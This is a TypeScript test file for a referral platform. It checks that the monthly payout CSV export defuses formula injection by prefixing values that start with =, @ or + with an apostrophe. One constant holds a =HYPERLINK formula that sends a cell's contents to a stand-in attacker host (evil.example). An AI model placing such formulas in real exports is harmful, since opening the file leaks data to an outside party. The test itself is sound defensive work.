import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { MONTHLY_JOB_ACTOR } from "./jobs";
import { staffActor } from "@/server/events/actor";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { platformCtx, wonPractice } from "@/server/testing/b2b";
import { createTestDb } from "@/server/testing/db";
import { callerAs, userByEmail } from "@/server/testing/fixtures";
import { recordPayment } from "./payments";
import { payoutLinesCsv, runPayouts } from "./payouts";
import { addMonths } from "./rewards";

let handle: Awaited<ReturnType<typeof createTestDb>>;
let db: Db;
let actorId = "";
beforeAll(async () => {
  handle = await createTestDb();
  db = handle.db;
  actorId = (await userByEmail(db, "platform@demo.test")).id;
});
afterAll(() => handle.drop());

const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Statement")';

describe("item 17: the platform payout CSV defuses formulas, through the one CSV writer", () => {
  it("writes a =HYPERLINK(...) referrer name and a +/@ organization as text, not formulas", async () => {
    const won = await wonPractice(
      db,
      actorId,
      { contractStart: "2026-03-01", launchDate: "2026-03-01" },
      { referrerName: HYPERLINK, referrerEmail: `formula-${randomUUID().slice(0, 8)}@payout.example`, referrerOrganization: "@SUM(1+1)", practiceName: "+Lakeside Dental" },
    );
    await recordPayment(platformCtx(db, staffActor(actorId, null)), { referralId: won.referral.id, kind: "maintenance", amountCents: 30_000, receivedOn: "2026-04-02", periodStart: "2026-04-02", periodEnd: addMonths("2026-04-02", 1), idempotencyKey: randomUUID() });
    await runPayouts(platformCtx(db, MONTHLY_JOB_ACTOR), { month: "2026-04" });

    const lines = await callerAs(db, actorId).platformB2b.payoutLines({ month: "2026-04" });
    expect(lines.map((l) => l.referrerName)).toContain(HYPERLINK);
    const text = await new Response(payoutLinesCsv(lines)).text();
    expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);

    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    const row = rows.find((r) => r.referrerName?.includes("HYPERLINK"));
    expect(row).toMatchObject({ referrerName: `'${HYPERLINK}`, organization: "'@SUM(1+1)", amount: "30.00", month: "2026-04" });
    expect(row?.practiceName?.startsWith("'+")).toBe(true);
  });
});
